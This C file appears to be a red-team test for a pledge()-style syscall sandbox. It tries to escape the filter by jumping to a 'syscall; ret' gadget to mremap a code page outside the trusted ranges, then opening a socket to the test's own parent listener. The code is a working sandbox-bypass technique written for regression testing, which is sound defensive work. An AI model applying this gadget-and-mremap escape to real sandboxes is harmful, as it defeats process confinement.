/* SPDX-License-Identifier: ISC */
/*
 * gate_mremap.c: code moved out of the pledged image's ranges by mremap
 * through a "syscall; ret" found in the process (issue 46, the gate).
 *
 * With exec held and NULL execpromises, the filter tells the pledged
 * image from the images it execs by where a call comes from: a call from
 * outside the executable mappings recorded at pledge() is an exec'd
 * image's, and unpledged.  mremap of code is refused while exec is held
 * (the handler checks it), but the handler makes allowed mremaps itself,
 * through the instruction the filter trusts: a jump there with mremap's
 * registers moves a page of code (here a "syscall; ret" mapped before
 * the pledge) to an address no range covers, and every call from it is
 * unpledged.  The effect: socket(AF_INET) and a connection to the
 * parent, under pledge("stdio exec", NULL).
 */
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include <unistd.h>

#include "redteam.h"

struct attempt {
	int			 tamed;
	uint64_t		 gadget;
	const struct rt_listener *l;
};

static int
attack(void *arg)
{
	const struct attempt *a = arg;
	long pg = sysconf(_SC_PAGESIZE), s;
	void *code, *to;
	struct rt_regs mv, sock = { SYS_socket, { AF_INET, SOCK_STREAM } };
	struct rt_regs conn = { SYS_connect, { 0, (long)&a->l->addr,
	    sizeof(a->l->addr) } };

	/* the code to move, part of the image when it pledges */
	code = rt_code_page(rt_svc_ret, rt_svc_ret_len, 0);
	/* where to: reserved, never executable, so in no range */
	to = mmap(NULL, (size_t)pg, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS,
	    -1, 0);
	if (to == MAP_FAILED)
		return RT_SETUP;
	mv = (struct rt_regs){ SYS_mremap, { (long)code, pg, pg,
	    MREMAP_MAYMOVE | MREMAP_FIXED, (long)to } };
	if (a->tamed)
		rt_pledge("stdio exec", NULL);
	if (rt_jump(a->gadget, &mv) != (long)to)
		return 1;
	if ((s = rt_jump((uint64_t)(uintptr_t)to, &sock)) < 0)
		return 2;
	conn.a[0] = s;
	rt_sh->ret = rt_jump((uint64_t)(uintptr_t)to, &conn);
	return 0;
}

static int
try(struct attempt *a)
{
	struct rt_kid k;

	rt_spawn(&k, attack, a);
	rt_reap(&k);
	rt_check(k.status);
	return rt_connected((struct rt_listener *)a->l);
}

int
main(int argc, char **argv)
{
	static struct rt_gadget g[RT_MAXGADGETS];
	struct rt_listener l;
	struct attempt a = { 0 };
	int n, i;

	rt_init(argc, argv);
	rt_listen_inet(&l);
	a.l = &l;
	if ((n = rt_gadgets(g, RT_MAXGADGETS)) == 0) {
		rt_na("no \"syscall; ret\" in this process's code");
		return rt_finish();
	}
	a.gadget = g[0].addr;
	if (!try(&a)) {
		rt_na("untamed, code moved by mremap made no connection");
		return rt_finish();
	}
	a.tamed = 1;
	for (i = 0; i < n; i++) {
		a.gadget = g[i].addr;
		if (try(&a)) {
			rt_escaped("pledge(\"stdio exec\", NULL): mremap "
			    "through the \"syscall; ret\" at %s moved code out "
			    "of the image's ranges; from there socket(AF_INET) "
			    "connected to the parent", g[i].where);
			return rt_finish();
		}
	}
	rt_held("pledge(\"stdio exec\", NULL): none of %d \"syscall; ret\" "
	    "moved code to where its calls are unpledged", n);
	return rt_finish();
}
